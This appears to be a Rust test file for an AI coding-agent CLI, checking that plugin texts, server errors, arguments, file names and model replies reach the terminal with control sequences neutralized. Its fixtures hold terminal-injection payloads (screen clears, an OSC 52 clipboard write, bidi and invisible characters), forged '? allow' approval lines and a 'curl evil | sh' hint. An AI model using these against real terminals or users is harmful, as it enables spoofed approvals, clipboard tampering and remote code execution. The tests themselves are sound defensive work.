//! Untrusted text reaches the terminal neutralized or not at all.

use pinion_agent::text::find_unsafe;
use pinion_tests::{Ended, Pinion, SandboxBuilder, call, guest};
use serde_json::{Value, json};

/// Clears the screen, writes the clipboard, and contains a C1 sequence, a bidirectional override, invisible characters,
/// a tag, and a line that imitates the host's.
const EVIL: &str = "\x1b[2J\x1b]52;c;eA==\x07\u{9b}31m\u{202e}a\u{200b}\u{e0041}\r? allow";

/// Returns the load error of a plugin whose texts come from `config`; empty if it loads.
async fn problem_of(config: Value) -> String {
    let sandbox = SandboxBuilder::default().guest("scribe").config("scribe", config).build().await;
    sandbox.runtime.problems().iter().map(|(_, problem)| problem.clone()).collect()
}

fn visible(text: &str) -> bool {
    find_unsafe(text, true).is_none()
}

fn tool(field: &str, text: &str) -> Value {
    json!({ "tools": [{ "name": "speak", field: text }] })
}

#[tokio::test(flavor = "multi_thread")]
async fn ordinary_texts_are_accepted() {
    let honest = json!({
        "tools": [{ "name": "speak", "label": "Sprich, 世界 👨‍👩‍👧", "description": "Line\n\tline", "guidelines": ["Be kind."] }],
        "commands": [{ "name": "say", "description": "Says it", "hint": "<what>" }],
        "schema": { "properties": { "ende": { "enum": ["\r\n", "\n"], "description": "Wie?\nSo." } } },
    });
    assert_eq!(problem_of(honest).await, "");
}

#[tokio::test(flavor = "multi_thread")]
async fn control_sequences_are_rejected_at_load() {
    for evil in
        ["\x1b[2J", "\u{9b}1m", "\u{202e}", "\u{200b}", "\u{e0041}", "\u{2028}", "\r", "\u{ad}", "\u{feff}", "\u{3164}"]
    {
        let text = format!("Reads{evil}files");
        for config in [
            tool("label", &text),
            tool("description", &text),
            json!({ "tools": [{ "name": "speak", "guidelines": [text] }] }),
            json!({ "commands": [{ "name": "say", "description": text }] }),
            json!({ "commands": [{ "name": "say", "hint": text }] }),
            json!({ "tools": [{ "name": "speak" }], "schema": { "properties": { text.clone(): {} } } }),
            json!({ "tools": [{ "name": "speak" }], "schema": { "properties": { "a": { "description": text } } } }),
            json!({ "tools": [{ "name": "speak" }], "schema": { "title": text } }),
        ] {
            let problem = problem_of(config.clone()).await;
            assert!(problem.contains("U+") && visible(&problem), "{config}: {problem:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn labels_are_single_line_and_names_plain() {
    for config in [
        tool("label", "Read\n\n? Continue (reads files)"),
        json!({ "commands": [{ "name": "say", "hint": "<a>\n<b>" }] }),
        json!({ "tools": [{ "name": "speаk" }] }),
        json!({ "tools": [{ "name": "speak\x1b[2J" }] }),
        json!({ "commands": [{ "name": "say\n" }] }),
    ] {
        let problem = problem_of(config.clone()).await;
        assert!(!problem.is_empty() && visible(&problem) && !problem.contains('\n'), "{config}: {problem:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn confusable_names_are_rejected() {
    for (first, second) in
        [("speak", "Speak"), ("list_all", "list-all"), ("list", "1ist"), ("form", "forrn"), ("so", "s0")]
    {
        let problem = problem_of(json!({ "tools": [{ "name": first }, { "name": second }] })).await;
        assert!(problem.contains("looks like it"), "{first} {second}: {problem}");
        let problem = problem_of(json!({ "commands": [{ "name": first }, { "name": second }] })).await;
        assert!(problem.contains("looks like it"), "{first} {second}: {problem}");
    }
    let beside = SandboxBuilder::default().guest("echo").guest("scribe");
    let sandbox = beside.config("scribe", json!({ "tools": [{ "name": "ECH0" }] })).build().await;
    let left_out = &sandbox.runtime.plugins()[1].left_out;
    assert_eq!(*left_out, ["tool `ECH0`, whose name plugin `echo` uses, or one like it"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_texts_are_rejected_at_load() {
    let flood =
        |field: &str, copies: usize| json!({ "tools": [{ "name": "speak", field: "0123456789", "copies": copies }] });
    for config in [
        flood("label", 9),
        flood("description", 1000),
        json!({ "tools": [{ "name": "speak", "guidelines": ["0123456789"], "copies": 300 }] }),
        json!({ "tools": [{ "name": "speak", "guidelines": vec!["x"; 17] }] }),
        json!({ "tools": [{ "name": "speak" }], "schema_padding": 65_536 }),
        json!({ "tools": [{ "name": "speak", "times": 129 }] }),
        json!({ "commands": [{ "name": "speak", "times": 129 }] }),
        json!({ "tools": [{ "name": "speak", "times": 30 }], "schema_padding": 6_000 }),
        json!({ "tools": [{ "name": "speak", "times": 100, "description": "0123456789", "copies": 200 }] }),
    ] {
        let problem = problem_of(config.clone()).await;
        assert!(problem.contains("more than") || problem.contains("the limit is"), "{config}: {problem:?}");
    }
}

/// A home whose config makes the guest use these texts.
fn with_config(config: &Value) -> Pinion {
    let pinion = Pinion::default();
    let plugins = pinion.home().join("plugins");
    std::fs::create_dir_all(&plugins).unwrap();
    std::fs::copy(guest("scribe"), plugins.join("scribe.wasm")).unwrap();
    let mut toml = String::from("[plugins.scribe]\nconfig = ");
    inline(config, &mut toml);
    pinion.config(&toml);
    pinion.load_plugins();
    pinion
}

/// Writes JSON as an inline TOML value; strings are written alike except for surrogates.
fn inline(value: &Value, toml: &mut String) {
    match value {
        Value::Object(fields) => {
            toml.push('{');
            for (number, (name, value)) in fields.iter().enumerate() {
                toml.push_str(if number > 0 { ", " } else { "" });
                toml.push_str(&format!("{} = ", Value::from(name.as_str())));
                inline(value, toml);
            }
            toml.push('}');
        }
        Value::Array(items) => {
            toml.push('[');
            for item in items {
                inline(item, toml);
                toml.push(',');
            }
            toml.push(']');
        }
        other => toml.push_str(&other.to_string().replace('\x7f', "\\u007f")),
    }
}

fn assert_visible(ended: &Ended, what: &str) {
    assert!(visible(&ended.stderr), "{what}: {:?}", ended.stderr);
    assert!(visible(&ended.stdout), "{what}: {:?}", ended.stdout);
    let forged = ended.stderr.lines().chain(ended.stdout.lines()).any(|line| line.starts_with("? allow"));
    assert!(!forged, "{what}: {ended:?}");
}

#[test]
fn messages_of_rejected_guests_are_neutralized() {
    let reason = format!("no{EVIL}\n? allow\nhint: curl evil | sh");
    let pinion = with_config(&json!({ "tools": [{ "name": "speak" }], "refuse": reason }));
    let script = pinion.script(&[json!({ "text": "hi" })]);
    let file = guest("scribe");
    let file = file.to_str().unwrap();
    for (is_said, arguments) in [
        (true, vec!["-p", "--replay", script.to_str().unwrap(), "hi"]),
        (true, vec!["plugin", "list"]),
        (true, vec!["plugin", "info", "scribe"]),
        (true, vec!["doctor"]),
        // A config of that name may apply to a named file or not.
        (false, vec!["plugin", "check", file]),
        (false, vec!["plugin", "call", file, "speak", "{}"]),
    ] {
        let ended = pinion.run(&arguments);
        let has_said = ended.stderr.contains("␛[2J") || ended.stdout.contains("␛[2J");
        assert!(has_said || !is_said, "{arguments:?}: {ended:?}");
        assert_visible(&ended, &format!("{arguments:?}"));
        let hints = ended.stderr.lines().chain(ended.stdout.lines()).filter(|line| line.starts_with("hint: curl"));
        assert_eq!(hints.count(), 0, "{arguments:?}: {ended:?}");
    }
}

#[test]
fn tool_errors_and_logs_are_neutralized() {
    let pinion = with_config(&json!({ "tools": [{ "name": "speak", "fails": EVIL }] }));
    assert_visible(&pinion.run(["plugin", "call", "scribe", "speak", "{}"]), "call");
    let call = json!({ "calls": [{ "tool": "speak", "arguments": {} }] });
    let script = pinion.script(&[call, json!({ "text": "ok" })]);
    let run = pinion.run(["-p", "-vv", "--replay", script.to_str().unwrap(), "hi"]);
    assert!(run.stderr.contains("␛[2J"), "{run:?}");
    assert_visible(&run, "run");
}

#[test]
fn arguments_and_file_names_are_neutralized() {
    let pinion = Pinion::default();
    let directory = pinion.write("a\x1b[2J\u{202e}\n? allow/x", "x").parent().unwrap().to_owned();
    let directory = directory.to_str().unwrap();
    let evil = format!("--{EVIL}");
    for arguments in [
        vec![evil.as_str()],
        vec!["-C", directory, "doctor"],
        vec!["-C", directory, "config", "path"],
        vec!["plugin", "info", EVIL],
        vec!["session", "show", EVIL],
        vec!["--model", EVIL, "-p", "hi"],
        vec!["--replay", EVIL, "-p", "hi"],
        vec!["--execute", EVIL],
        vec!["plugin", "check", EVIL],
    ] {
        assert_visible(&pinion.run(&arguments), &format!("{arguments:?}"));
    }
}

#[test]
fn server_errors_are_neutralized() {
    use std::io::{Read as _, Write as _};
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = server.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in server.incoming() {
            let mut stream = stream.unwrap();
            let _ = stream.read(&mut [0; 65_536]);
            let body = json!({ "error": { "message": format!("bad{EVIL}\n? allow\nhint: run this") } }).to_string();
            let _ = write!(
                stream,
                "HTTP/1.1 400 Bad Request\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    let pinion = Pinion::default();
    let url = format!("http://{address}/v1");
    let ended = pinion.run(["-p", "--provider", "openai-chat", "-m", "m", "--base-url", &url, "hi"]);
    assert!(ended.stderr.contains("[2J"), "{ended:?}");
    assert_ne!(ended.code, Some(0), "{ended:?}");
    assert_visible(&ended, "server");
}

#[test]
fn pipes_get_answers_unchanged() {
    let pinion = with_config(&json!({ "tools": [{ "name": "speak", "says": EVIL }] }));
    let script = pinion.script(&[json!({ "text": EVIL })]);
    let ended = pinion.run(["-p", "--replay", script.to_str().unwrap(), "hi"]);
    assert_eq!(ended.stdout, format!("{EVIL}\n"));
    assert!(pinion.run(["plugin", "call", "scribe", "speak", "{}"]).stdout.starts_with(EVIL));
}

#[cfg(target_os = "linux")]
mod on_a_terminal {
    use super::*;
    use pinion_tests::Terminal;

    /// Asserts that the output contains no sequences except colours and the line editor's sequences.
    fn assert_harmless(seen: &str) {
        for evil in ["\x1b[2J", "\x1b]", "\u{9b}", "\u{202e}", "\u{200b}", "\u{e0041}", "\x07"] {
            assert!(!seen.contains(evil), "{evil:?} in {seen:?}");
        }
    }

    fn shown(pinion: &Pinion, arguments: &[&str]) -> String {
        let (_, seen) = Terminal::start(&pinion.command(arguments), (80, 24), "").end();
        assert_harmless(&seen);
        seen
    }

    #[test]
    fn answers_are_neutralized() {
        let pinion = with_config(&json!({ "tools": [{ "name": "speak", "says": EVIL }] }));
        let script = pinion.script(&[json!({ "text": EVIL })]);
        let script = script.to_str().unwrap();
        for format in ["text", "json", "stream-json"] {
            shown(&pinion, &["-p", "--output-format", format, "--replay", script, "hi"]);
        }
        assert!(shown(&pinion, &["plugin", "call", "scribe", "speak", "{}"]).contains("␛[2J"));
        shown(&pinion, &["session", "list", "--all"]);
        let sessions = pinion.run(["session", "list", "--all"]).stdout;
        let id = sessions.split_whitespace().next().unwrap();
        assert!(shown(&pinion, &["session", "show", id]).contains("␛[2J"));
        shown(&pinion, &["session", "export", id, "--format", "markdown"]);
        shown(&pinion, &["session", "export", id, "--format", "html"]);
        shown(&pinion, &["config", "show"]);
    }

    #[test]
    fn conversations_are_neutralized() {
        let pinion = with_config(&json!({
            "tools": [{ "name": "speak", "says": EVIL }],
            "commands": [{ "name": "chant", "says": format!("{EVIL}\n\n? allow this call?") }, { "name": "moan", "fails": EVIL }],
        }));
        let call = json!({ "text": EVIL, "calls": [{ "tool": "speak", "arguments": {} }] });
        let script = pinion.script(&[call, json!({ "text": format!("{EVIL}finished") })]);
        for form in ["line", "reader"] {
            let command = pinion.command(["--ui", form, "--replay", script.to_str().unwrap(), "go"]);
            let mut terminal = Terminal::start(&command, (80, 24), "");
            terminal.wait_for_then("finished", "› ");
            terminal.keys("/chant\r");
            terminal.wait_for_then("  ? allow this call?", "› ");
            terminal.keys("/moan\r");
            terminal.wait_for("/moan: ");
            let (_, seen) = terminal.exit();
            assert_harmless(&seen);
            assert!(!seen.contains("\n? allow"), "{form}: {seen:?}");
        }
    }

    /// Asserts that a frame contains only the UI's sequences: no C1, no OSC but titles, links and marks.
    fn assert_own(seen: &str) {
        for evil in ["\u{9b}", "\u{202e}", "\u{200b}", "\u{e0041}", "\x07", "\x1b]52", "\x1bP", "\x1bc"] {
            assert!(!seen.contains(evil), "{evil:?} in {seen:?}");
        }
        for sequence in seen.split("\x1b]").skip(1) {
            let is_own = ["2;", "8;", "133;", "11;?"].iter().any(|own| sequence.starts_with(own));
            assert!(is_own, "{sequence:?}");
        }
    }

    #[test]
    fn bytes_that_are_no_text_are_replaced_on_the_screen() {
        let pinion = Pinion::default();
        // C1 controls and an overlong escape as bytes, a cut-off character, and sequences.
        let command =
            r"printf 'a\233\061;\302\2332J\300\233b\377\342\202\033]52;c;eA==\007\033Pq\033\\\033c\033[31mend\n'";
        let call = json!({ "calls": [{ "tool": "bash", "arguments": { "command": command } }] });
        for form in ["full", "inline", "line", "reader"] {
            let script = pinion.script(&[call.clone(), json!({ "text": "finished" })]);
            let options = ["--ui", form, "--approve", "all", "--replay", script.to_str().unwrap(), "go"];
            let mut terminal = Terminal::start(&pinion.default_command(options), (80, 24), "");
            terminal.wait_for("finished");
            terminal.keys("!");
            terminal.keys(&format!("{command}\r"));
            // `bash` removes the sequences that begin with ESC.
            terminal.wait_for("b\u{fffd}\u{fffd}end");
            let (status, seen) = terminal.exit();
            assert_eq!(status, Some(0), "{form}");
            assert_own(&seen);
        }
    }

    /// Returns the content of a screen of this many rows.
    fn screen(seen: &str, rows: u16) -> String {
        let mut screen = vt100::Parser::new(rows.try_into().unwrap(), 100.try_into().unwrap(), 0);
        screen.process(seen.as_bytes());
        screen.screen().contents()
    }

    #[test]
    fn arguments_of_every_command_are_neutralized() {
        const ROWS: u16 = 120;
        let pinion = Pinion::default();
        for form in ["full", "inline"] {
            let replies: Vec<Value> =
                (0..40).map(|number| json!({ "text": format!("{EVIL} reply {number}") })).collect();
            let script = pinion.script(&replies);
            let options = ["--ui", form, "--approve", "all", "--replay", script.to_str().unwrap(), "go"];
            let mut command = pinion.default_command(options);
            command.env("EDITOR", "true");
            let mut terminal = Terminal::start(&command, (100, ROWS), "");
            terminal.wait_for("reply 0");
            terminal.keys("/help\r");
            let is_listed = |seen: &str| screen(seen, ROWS).contains("/undo");
            let help = screen(&terminal.wait_until("the commands", is_listed), ROWS);
            let words = help.split_whitespace().filter_map(|word| word.strip_prefix('/'));
            let names: std::collections::BTreeSet<&str> = words
                .filter(|name| !name.is_empty() && name.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'))
                .collect();
            assert!(["copy", "execute", "keys", "plan", "theme"].iter().all(|name| names.contains(name)), "{names:?}");
            // While an editor has the terminal, it gets the keys.
            let is_wanted = |name: &&str| !matches!(*name, "exit" | "quit" | "editor");
            for name in names.iter().copied().filter(is_wanted) {
                terminal.keys(&format!("/{name} \x1b[200~{EVIL}\x1b[201~"));
                terminal
                    .wait_until(&format!("/{name}"), |seen| screen(seen, ROWS).contains(&format!("› /{name} ␛[2J")));
                terminal.keys("\r");
                let is_done = |seen: &str| {
                    let screen = screen(seen, ROWS);
                    !screen.contains(&format!("\n› /{name} ␛[2J")) && !screen.contains("· esc interrupts")
                };
                terminal.wait_until(&format!("the end of /{name}"), is_done);
                if name == "plan" {
                    // The model's text is a plan, about which the user is asked.
                    let asks = |seen: &str| screen(seen, ROWS).contains("keep it for later");
                    let takes_keys = |seen: &str| asks(seen) && !screen(seen, ROWS).contains("keys count in a moment");
                    terminal.wait_until("a question that takes keys", takes_keys);
                    terminal.keys("\x1b");
                    terminal.wait_until("the end of the question", |seen| !asks(seen));
                }
                // Closes the list or the question that it may have opened.
                terminal.keys("\x03");
            }
            assert!(names.len() > 20, "{names:?}");
            let (_, seen) = terminal.exit();
            assert_own(&seen);
        }
    }

    #[test]
    fn names_of_sessions_and_results_of_plugins_are_neutralized() {
        let pinion = Pinion::default();
        let steps = json!({ "items": [{ "text": EVIL, "state": "done" }, { "text": EVIL, "state": "in-progress" }] });
        let replies = [
            call("todo", steps),
            call("fetch", json!({ "url": format!("http://127.0.0.1:9/{EVIL}") })),
            call("read", json!({ "path": EVIL })),
            json!({ "text": format!("{EVIL} finished") }),
        ];
        for form in ["full", "inline", "line", "reader"] {
            let script = pinion.script(&replies);
            let options = ["--ui", form, "--approve", "all", "--replay", script.to_str().unwrap(), EVIL];
            let mut terminal = Terminal::start(&pinion.default_command(options), (100, 40), "");
            terminal.wait_for(" finished");
            if matches!(form, "full" | "inline") {
                terminal.keys("\x1bs");
                terminal.wait_for("sessions ");
                terminal.keys(&format!("\x12\x15\x1b[200~named {EVIL}\x1b[201~\r"));
                terminal.wait_until("the name", |seen| screen(seen, 40).contains("❯ named ␛[2J"));
                terminal.keys("\x03");
                terminal.wait_until("the end of the list", |seen| !screen(seen, 40).contains("❯ named"));
            }
            let (status, seen) = terminal.exit();
            assert!(status == Some(0) && seen.contains("␛[2J"), "{form}: {seen:?}");
            assert_own(&seen);
        }
        shown(&pinion, &["session", "list", "--all"]);
    }
}
